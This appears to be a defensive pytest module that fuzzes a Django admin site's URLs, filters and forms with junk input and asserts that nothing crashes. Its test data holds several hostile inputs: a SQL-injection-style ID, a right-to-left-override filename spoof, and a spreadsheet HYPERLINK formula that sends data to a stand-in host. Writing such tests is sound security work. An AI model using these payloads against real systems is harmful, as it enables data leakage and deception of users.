"""No input answers 500: every admin URL and every admin form, fed junk, answers a form error, 400 or 404.

The URLs and forms are not listed by hand: the test walks the admin site's registry, the filter
links each list page offers, and the fields each add and change page renders (inlines included),
so a model, filter or field added later is covered without editing this file.
"""

from __future__ import annotations

from urllib.parse import parse_qsl, urlencode

import pytest
from django import forms
from django.contrib import admin
from django.test import Client
from django.urls import reverse
from simple_history.models import HistoricalChanges

from programmes.forms import MoneyField
from tests.admin_posts import page_data

pytestmark = pytest.mark.django_db

LONG = "Đ" * 100_000
NUL = "abc\x00def"
BAD_IDS = ["abc", "-1", "0", "1.5", "99999999999999999999", "%00", "1%20OR%201=1", LONG[:2000]]
BAD_VALUES = ["abc", "-1", "99999999999999999999", "1.5", "", NUL, LONG]
BAD_AMOUNTS = ["1.5", "1..0", ".5", "300.000.00", "1,5", "12abc", "-5", "9" * 40, "1e9"]
BAD_DATES = ["31/02/2024", "01/01/0001", "31/12/9999", "2024-13-45", "abc", "00/00/0000", "1/1/1"]

MODELS = sorted(admin.site._registry, key=lambda model: model._meta.label_lower)


def admin_url(model, view: str, *args) -> str:
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}", args=args)


def assert_not_500(response, what: str) -> None:
    assert response.status_code < 500, f"{what} answered {response.status_code}"


@pytest.fixture
def world(thanh_hoa_world):
    return thanh_hoa_world


@pytest.fixture
def browser(administrator) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(administrator)
    return client


def a_row(model):
    return model._default_manager.order_by("pk").first()


def history_id(model, row) -> int | None:
    if row is None or not hasattr(model, "history"):
        return None
    record = model.history.filter(**{model._meta.pk.attname: row.pk}).order_by("history_id").first()
    return record.history_id if record else None


@pytest.mark.parametrize("model", MODELS, ids=lambda m: m._meta.label_lower)
def test_every_admin_url_with_junk_ids_and_filters(browser, world, model):
    row = a_row(model)
    assert row is not None, f"no {model._meta.label_lower} row to try"
    for bad in BAD_IDS:
        for view in ("change", "delete", "history"):
            url = admin_url(model, "changelist") + f"{bad}/{view}/"
            assert_not_500(browser.get(url), url)
        assert_not_500(browser.get(admin_url(model, "changelist") + f"{row.pk}/history/{bad}/"), f"history {bad}")
        assert_not_500(browser.post(admin_url(model, "changelist") + f"{row.pk}/history/{bad}/"), f"history {bad}")

    # Every filter link the list page offers, with each of its parameters spoiled in turn.
    changelist = admin_url(model, "changelist")
    page = browser.get(changelist)
    assert page.status_code == 200
    cl = page.context["cl"]
    params = {"q", "o", "p", "e", "_facets", "all", "tinh"}
    for spec in cl.filter_specs:
        for choice in spec.choices(cl):
            params.update(key for key, _value in parse_qsl(choice["query_string"].lstrip("?")))
    if cl.date_hierarchy:
        field = cl.date_hierarchy
        params.update({f"{field}__year", f"{field}__month", f"{field}__day"})
    for param in sorted(params):
        for bad in BAD_VALUES:
            url = f"{changelist}?{urlencode({param: bad})}"
            assert_not_500(browser.get(url), f"{param}={bad[:20]!r}")
    # The date hierarchy with a day that does not exist.
    if cl.date_hierarchy:
        field = cl.date_hierarchy
        url = f"{changelist}?{urlencode({f'{field}__year': 2024, f'{field}__month': 2, f'{field}__day': 31})}"
        assert_not_500(browser.get(url), url)

    autocomplete = reverse("admin:autocomplete")
    for bad in ["abc", LONG, NUL]:
        query = {"term": bad, "app_label": bad, "model_name": bad, "field_name": bad}
        assert_not_500(browser.get(f"{autocomplete}?{urlencode(query)}"), "autocomplete")


def spoil(form, name: str) -> list[str]:
    """The junk worth posting to one field while the rest of the form is valid: values a form
    field may let through to the model and the service, by the field's kind."""
    field = form.fields[name]
    if isinstance(field, MoneyField):
        return ["1.5", "300.000.00", "9" * 40]
    if isinstance(field, (forms.DateField, forms.DateTimeField, forms.SplitDateTimeField)):
        return ["01/01/0001", "31/12/9999", "31/02/2024"]
    if isinstance(field, (forms.ModelChoiceField, forms.ChoiceField, forms.IntegerField)):
        return ["abc", "99999999999999999999"]
    return [LONG]


# Posted to every field at once: each field's own cleaning meets junk in the same request.
EVERY_FIELD = [NUL, LONG, "", "abc", "-1", "1.5", "31/02/2024", "99999999999999999999"]


def pages_to_post(model, row):
    yield admin_url(model, "add")
    if row is not None:
        yield admin_url(model, "change", row.pk)


@pytest.mark.parametrize("model", MODELS, ids=lambda m: m._meta.label_lower)
def test_every_admin_form_with_junk_in_each_field(browser, world, model):
    row = a_row(model)
    for url in pages_to_post(model, row):
        page = browser.get(url)
        if page.status_code != 200 or "adminform" not in (page.context or {}):
            continue  # an add page this model does not offer
        valid = page_data(page)
        forms_on_page = [page.context["adminform"].form]
        for inline in page.context["inline_admin_formsets"]:
            forms_on_page += list(inline.formset.forms)
        keys = [(form, name, form.add_prefix(name)) for form in forms_on_page for name in form.fields]
        for bad in EVERY_FIELD:
            response = browser.post(url, {**valid, **{key: bad for _form, _name, key in keys}})
            assert_not_500(response, f"{url} every field={bad[:20]!r}")
        # One by one: the main form and one row of each inline (the rows of an inline are alike).
        first_rows = {id(page.context["adminform"].form)} | {
            id(inline.formset.forms[0]) for inline in page.context["inline_admin_formsets"] if inline.formset.forms
        }
        for form, name, key in (k for k in keys if id(k[0]) in first_rows):
            for bad in spoil(form, name):
                response = browser.post(url, {**valid, key: bad})
                assert_not_500(response, f"{url} {key}={bad[:20]!r}")
        if not keys:  # a page shown read-only: a post to it is refused, never a crash
            assert_not_500(browser.post(url, {"decision_number": LONG}), url)
    if row is not None and history_id(model, row):
        url = admin_url(model, "changelist") + f"{row.pk}/history/{history_id(model, row)}/"
        assert_not_500(browser.post(url, {"name": LONG}), url)


def test_junk_ids_answer_the_apps_404_page(browser, world):
    response = browser.get(reverse("admin:programmes_project_changelist") + "abc/change/")
    assert response.status_code in (302, 404)


def test_a_nul_byte_answers_400(browser, world):
    assert browser.get(reverse("admin:programmes_project_changelist") + "?q=a%00b").status_code == 400
    assert browser.post(reverse("admin:programmes_project_add"), {"name": NUL}).status_code == 400


def test_a_nul_byte_is_also_refused_in_the_path(browser, world):
    assert browser.get(reverse("admin:programmes_project_changelist") + "a%00b/change/").status_code in (400, 404)


def test_history_records_exist_to_try(world):
    # Guard against the history tries above silently having nothing to post to.
    assert issubclass(type(world["project"].history.first()), HistoricalChanges)


# --- Text that deceives, in every text field of every admin form (issue 16) ---------------------------

DECEIVING = {"bidi": "x\u202egnp.exe", "bom": "\ufeff", "isolate": "a\u2066b", "fraktur": "𝔅ℭ", "fullwidth": "ＳＣＴ"}
LOOKALIKE_KINDS = {"fraktur", "fullwidth"}
FORMULA = '=HYPERLINK("http://x.example/?leak","click")'


def _text_fields(page):
    """(form, field name, posted key, multiline) for every text input of the page's form and first inline rows."""
    forms_on_page = [page.context["adminform"].form]
    forms_on_page += [
        inline.formset.forms[0] for inline in page.context["inline_admin_formsets"] if inline.formset.forms
    ]
    for form in forms_on_page:
        for name, field in form.fields.items():
            widget = field.widget
            if type(field) not in (forms.CharField, forms.SlugField, forms.EmailField) and not (
                isinstance(field, forms.CharField) and field.__class__.__module__.startswith("django.contrib.auth")
            ):
                continue
            if isinstance(widget, (forms.HiddenInput, forms.PasswordInput)) or widget.attrs.get("readonly"):
                continue
            yield form, name, form.add_prefix(name), isinstance(widget, forms.Textarea)


def _errors_of(response, key: str) -> list:
    context = response.context
    errors = list(context["adminform"].form.errors.get(key, []))
    for inline in context["inline_admin_formsets"]:
        for form in inline.formset.forms:
            for name, messages in form.errors.items():
                if form.add_prefix(name) == key:
                    errors.extend(messages)
    return errors


def _state(model, row):
    return model._default_manager.filter(pk=row.pk).values().first()


@pytest.mark.parametrize("model", MODELS, ids=lambda m: m._meta.label_lower)
def test_every_text_field_refuses_deceiving_text_at_the_field(browser, world, model):
    row = a_row(model)
    url = admin_url(model, "change", row.pk)
    page = browser.get(url)
    if page.status_code != 200 or "adminform" not in (page.context or {}):
        pytest.skip("no change form")
    valid = page_data(page)
    fields = list(_text_fields(page))
    if not fields:
        pytest.skip("no text field")
    control = browser.post(url, valid)
    assert control.status_code == 302, (
        f"the page's own data is refused: {control.context and control.context['errors']}"
    )
    for _form, _name, key, multiline in fields:
        current = valid.get(key) or ""
        before = _state(model, row)
        for kind, hostile in DECEIVING.items():
            if multiline and kind in LOOKALIKE_KINDS:
                continue  # free text may quote a lookalike
            response = browser.post(url, {**valid, key: f"{current}{hostile}"})
            assert response.status_code == 200, f"{key} with {kind} was saved"
            assert _errors_of(response, key), f"{key} with {kind}: no error at the field"
            assert _state(model, row) == before, f"{key} with {kind} changed the row"
        response = browser.post(url, {**valid, key: FORMULA})
        assert_not_500(response, f"{key}={FORMULA}")
        browser.post(url, valid)  # as it was, for the next field
